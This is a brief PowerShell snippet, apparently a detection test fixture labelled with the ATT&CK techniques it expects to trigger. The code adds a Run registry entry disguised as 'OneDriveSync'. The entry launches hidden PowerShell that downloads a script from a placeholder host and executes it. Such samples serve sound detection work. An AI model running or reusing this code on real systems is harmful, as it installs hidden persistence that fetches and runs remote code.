# expect: T1547.001 T1105
$key = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'
$payload = 'powershell.exe -WindowStyle Hidden -Command "iex ((New-Object Net.WebClient).DownloadString(''https://cdn-sync.example.com/u.ps1''))"'
New-ItemProperty -Path $key -Name 'OneDriveSync' -Value $payload -PropertyType String -Force
